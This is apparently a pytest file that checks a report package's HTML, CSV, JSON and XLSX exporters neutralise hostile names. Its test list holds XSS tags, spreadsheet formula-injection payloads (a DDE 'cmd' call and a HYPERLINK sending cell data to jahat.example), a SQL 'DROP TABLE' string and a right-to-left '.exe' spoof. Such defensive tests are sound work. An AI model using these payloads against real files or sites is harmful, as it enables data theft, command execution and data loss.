"""Names from outside are inert and readable in every format."""

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from sipukat import export
from sipukat.report.cleaning import clean

RTL, NUL, OVERRIDE = chr(0x200F), chr(0), chr(0x202E)
HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://jahat.example/"&A1,"klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "{{7*7}} ${7*7} #import",
    f"Dinas {RTL}A{OVERRIDE}txt.exe",
    f"Dinas {NUL}B",
    "Dinas 😀 é",
    "x" * 10_000,
    'a"; DROP TABLE x; --\nbaris dua',
    "http://jahat.example/",
    "*", ">5", "]]></svg><script>",
]  # fmt: skip


def read_html(data):
    seen = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            assert tag not in {"script", "img", "iframe", "a" if dict(attrs).get("class") != "skip" else ""}
            assert not [name for name, _ in attrs if name.startswith("on")]

        handle_startendtag = handle_starttag

        def handle_data(self, text):
            seen.append(text)

    Reader().feed(data.decode())
    return seen


def read_csv(data):
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", NUL))]
    return [cell.removeprefix("'") for cell in cells]


def read_json(data):
    loaded = json.loads(data)
    return [
        cell
        for block in loaded["blocks"]
        if block["kind"] == "table"
        for row in block["rows"]
        for cell in row
    ]


def read_xlsx(data):
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas
    assert not [f for f in formulas if "HYPERLINK" in f or "cmd" in f or f == "=1+1"]
    assert not [cell for cell in cells if cell.hyperlink]
    return [cell.value for cell in cells if isinstance(cell.value, str)]


READERS = {"html": read_html, "csv": read_csv, "json": read_json, "xlsx": read_xlsx}


@pytest.fixture(scope="module")
def hostile(document_of):
    return document_of(dict.fromkeys(HOSTILE, 12), opts={"subject": HOSTILE[0], "period": HOSTILE[1]})


@pytest.mark.parametrize("name", export.names())
def test_hostile_names_are_inert_and_readable(name, hostile):
    data = export.get(name)(hostile)
    assert NUL.encode() not in data or name == "xlsx"
    if name not in READERS:
        pytest.skip(f"the exporter {name!r} of another package is tested there")
    seen = READERS[name](data)
    for text in HOSTILE:
        assert clean(text) in seen
    assert not [text for text in seen if isinstance(text, str) and OVERRIDE in text]


def test_removed_characters_are_reported(hostile):
    assert "PUB706" in [block.code for block in hostile.blocks if block.kind == "note"]
